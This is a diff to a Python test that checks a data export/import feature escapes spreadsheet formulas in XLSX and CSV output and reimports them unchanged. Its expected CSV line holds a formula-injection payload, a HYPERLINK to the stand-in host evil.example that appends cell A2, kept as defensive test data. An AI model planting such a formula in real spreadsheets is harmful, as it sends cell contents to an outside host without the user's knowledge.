@@ -203,10 +203,13 @@ def test_a_formula_in_a_comment_is_text_in_the_exports_and_reimports_unchanged(w
     transfer.import_values(user=who["xy_editor"], data=json.dumps({"dataValues": [item]}).encode(), filename="v.json")
     xlsx, _n, _t = transfer.export_values(DataValue.objects.all(), "xlsx")
     cells = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))[0]
-    assert [(c.value, c.data_type) for c in cells[3:]] == [(-3, "n"), ("'" + LINK, "s")]  # a negative number stays one
+    assert [(c.value, c.data_type) for c in cells[3:5]] == [(-3, "n"), ("'" + LINK, "s")]  # a negative number stays one
+    assert cells[5].value is None  # a total: no category option combo
     text, _n, _t = transfer.export_values(DataValue.objects.all(), "csv")
     assert (
-        text.decode("utf-8-sig").splitlines()[1].endswith(',-3,"\'=HYPERLINK(""http://evil.example/?d=""&A2,""点击"")"')
+        text.decode("utf-8-sig")
+        .splitlines()[1]
+        .endswith(',-3,"\'=HYPERLINK(""http://evil.example/?d=""&A2,""点击"")",')
     )
     for data, name in ((xlsx, "v.xlsx"), (text, "v.csv")):
         assert transfer.import_values(user=who["xy_editor"], data=data, filename=name)["unchanged"] == 1, name
